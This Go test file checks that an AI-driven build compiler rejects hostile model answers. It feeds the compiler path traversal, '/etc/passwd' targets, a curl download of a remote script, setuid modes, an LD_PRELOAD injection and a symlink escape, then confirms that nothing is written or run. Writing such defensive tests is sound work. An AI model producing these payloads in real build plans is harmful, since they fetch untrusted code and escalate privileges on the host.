package openai

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/clockwork-iac/clockwork/internal/compiler/openai/aitest"
	"github.com/clockwork-iac/clockwork/internal/contract"
	"github.com/clockwork-iac/clockwork/internal/forge"
)

// These tests put the AI compiler behind forge.Build, the real trust
// boundary, and look at what reaches disk and what runs.

// project is a configuration directory with its build directory; the
// agent logs go where the CLI puts them, .clockwork/build/agent.
type project struct {
	root, build, agent string
}

func newProject(t *testing.T) project {
	t.Helper()
	root := t.TempDir()
	build := filepath.Join(root, ".clockwork", "build")
	return project{root: root, build: build, agent: filepath.Join(build, "agent")}
}

// files lists every regular file and symlink under dir, relative to it.
func files(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, filepath.ToSlash(rel))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(out)
	return out
}

func TestHostileAnswersWriteAndRunNothing(t *testing.T) {
	cases := []struct {
		name   string
		mutate func(m map[string]any)
		want   string // in every repair message and in the final error
	}{
		{"path traversal", func(m map[string]any) {
			artifact(m, 0)["path"] = "../../etc/x"
			runOf(m, 0)["cmd"] = []any{"bash", "../../etc/x"}
		}, "path has a '..' element"},
		{"absolute /etc/passwd", func(m map[string]any) {
			artifact(m, 0)["path"] = "/etc/passwd"
			runOf(m, 0)["cmd"] = []any{"bash", "/etc/passwd"}
		}, "path is absolute"},
		{"disallowed runtime curl", func(m map[string]any) {
			runOf(m, 0)["cmd"] = []any{"curl", "-fsSL", "http://198.51.100.7/x.sh", "-o", "scripts/x.sh"}
		}, `run.cmd[0] "curl" is neither an allowlisted runtime`},
		{"a purpose not in the plan", func(m map[string]any) {
			m["steps"] = append(stepsOf(m), map[string]any{"purpose": "service.evil/ensure_service",
				"run": map[string]any{"cmd": []any{"bash", "scripts/task-hello-custom.sh"}, "env": nil, "timeout": nil, "retries": nil}})
		}, "service.evil/ensure_service"},
		{"a missing step", func(m map[string]any) {
			m["steps"] = stepsOf(m)[:1]
		}, `step "check.hello/verify_file"`},
		{"setuid mode", func(m map[string]any) {
			artifact(m, 0)["mode"] = "4755"
		}, "setuid"},
		{"LD_PRELOAD in run.env", func(m map[string]any) {
			runOf(m, 0)["env"] = []any{map[string]any{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}}
		}, "LD_PRELOAD"},
		{"a reserved forge file", func(m map[string]any) {
			artifact(m, 1)["path"] = "manifest.json"
			runOf(m, 1)["cmd"] = []any{"bash", "manifest.json"}
		}, `"manifest.json"`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			srv := aitest.NewServer(t, aitest.Content(answerWith(t, tc.mutate)))
			p := newProject(t)
			cfg := testConfig(t, srv)
			cfg.AgentDir = p.agent
			_, err := forge.Build(context.Background(), forge.BuildOptions{
				BuildDir: p.build, ActionList: testActionList(t), Compiler: New(cfg), Facts: testFacts(),
			})
			var iae *InvalidAnswerError
			if !errors.As(err, &iae) {
				t.Fatalf("Build error = %v, want an *InvalidAnswerError", err)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not name %q", err, tc.want)
			}
			calls := srv.Calls()
			if len(calls) != 1+cfg.MaxRepairs {
				t.Errorf("server saw %d calls, want 1+MaxRepairs = %d", len(calls), 1+cfg.MaxRepairs)
			}
			for i, c := range calls[1:] {
				if repair := lastUser(c); !strings.Contains(repair, tc.want) {
					t.Errorf("repair %d does not name %q:\n%s", i+1, tc.want, repair)
				}
			}
			// Nothing but the agent logs reached disk: no artifact, no
			// bundle, no manifest, nothing outside the build directory.
			want := []string{
				".clockwork/build/agent/answer-1.txt", ".clockwork/build/agent/answer-2.txt", ".clockwork/build/agent/answer-3.txt",
				".clockwork/build/agent/prompt-1.json", ".clockwork/build/agent/prompt-2.json", ".clockwork/build/agent/prompt-3.json",
			}
			if diff := cmp.Diff(want, files(t, p.root)); diff != "" {
				t.Errorf("files on disk (-want +got):\n%s", diff)
			}
		})
	}
}

func TestSymlinkInBuildDirIsRefused(t *testing.T) {
	// A valid answer, but scripts/ in the build directory is a link to
	// somewhere else: forge refuses to write through it.
	srv := aitest.NewServer(t, aitest.Content(encode(t, validAnswer(t))))
	p := newProject(t)
	outside := t.TempDir()
	if err := os.MkdirAll(p.build, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(p.build, "scripts")); err != nil {
		t.Fatal(err)
	}
	cfg := testConfig(t, srv)
	cfg.AgentDir = p.agent
	_, err := forge.Build(context.Background(), forge.BuildOptions{
		BuildDir: p.build, ActionList: testActionList(t), Compiler: New(cfg), Facts: testFacts(),
	})
	ve, ok := forge.AsValidationError(err)
	if !ok || !ve.Has(forge.RulePath) {
		t.Fatalf("Build error = %v, want a path violation", err)
	}
	if got := files(t, outside); len(got) != 0 {
		t.Errorf("files written through the link: %v", got)
	}
	if n := len(srv.Calls()); n != 1 {
		t.Errorf("server saw %d calls, want 1", n)
	}
}

func TestValidAnswerBuildsAndRuns(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("bash not installed")
	}
	srv := aitest.NewServer(t, aitest.Content(encode(t, validAnswer(t))))
	p := newProject(t)
	cfg := testConfig(t, srv)
	cfg.AgentDir = p.agent
	c := New(cfg)
	al := testActionList(t)
	opts := forge.BuildOptions{BuildDir: p.build, ActionList: al, Compiler: c, Facts: testFacts()}
	res, err := forge.Build(context.Background(), opts)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	if diff := cmp.Diff([]string{"scripts/check-hello-verify-file.sh", "scripts/task-hello-custom.sh"}, res.Written); diff != "" {
		t.Errorf("written (-want +got):\n%s", diff)
	}

	// Run the steps as the executor would: in the build directory, with a
	// clean environment of CW_* variables, vars and run.env.
	run := func(st contract.BundleStep) error {
		cmd := exec.Command(st.Run.Cmd[0], st.Run.Cmd[1:]...)
		cmd.Dir = p.build
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "CW_ROOT=" + p.root, "CW_BUILD=" + p.build,
			"CW_OUTPUT=" + filepath.Join(t.TempDir(), "out.env"), "CW_STEP_ID=" + st.Purpose}
		for k, v := range res.Bundle.Vars {
			cmd.Env = append(cmd.Env, k+"="+v.(string))
		}
		for k, v := range st.Run.Env {
			cmd.Env = append(cmd.Env, k+"="+v)
		}
		out, err := cmd.CombinedOutput()
		if err != nil {
			return errors.New(err.Error() + ": " + string(out))
		}
		return nil
	}
	task, verify := *res.Bundle.StepFor("task.hello/custom"), *res.Bundle.StepFor("check.hello/verify_file")
	if err := run(verify); err == nil {
		t.Fatal("verify passed before the task ran")
	}
	for range 2 { // idempotent
		if err := run(task); err != nil {
			t.Fatalf("task: %v", err)
		}
	}
	got, err := os.ReadFile(filepath.Join(p.root, "out", "hello.txt"))
	if err != nil || string(got) != "hello" {
		t.Fatalf("out/hello.txt = %q, %v; want hello", got, err)
	}
	if err := run(verify); err != nil {
		t.Fatalf("verify: %v", err)
	}

	// A second build with unchanged plan and settings reuses the bundle
	// without asking the model again.
	res, err = forge.Build(context.Background(), opts)
	if err != nil {
		t.Fatalf("second Build: %v", err)
	}
	if !res.Reused || len(srv.Calls()) != 1 {
		t.Errorf("second build: reused %v, %d model calls; want reuse and 1 call", res.Reused, len(srv.Calls()))
	}
	// Another model is another compiler setting: the model is asked again.
	cfg.Model = "other-model"
	opts.Compiler = New(cfg)
	if _, err := forge.Build(context.Background(), opts); err != nil {
		t.Fatalf("third Build: %v", err)
	}
	if n := len(srv.Calls()); n != 2 {
		t.Errorf("a model change made %d calls in total, want 2", n)
	}
}
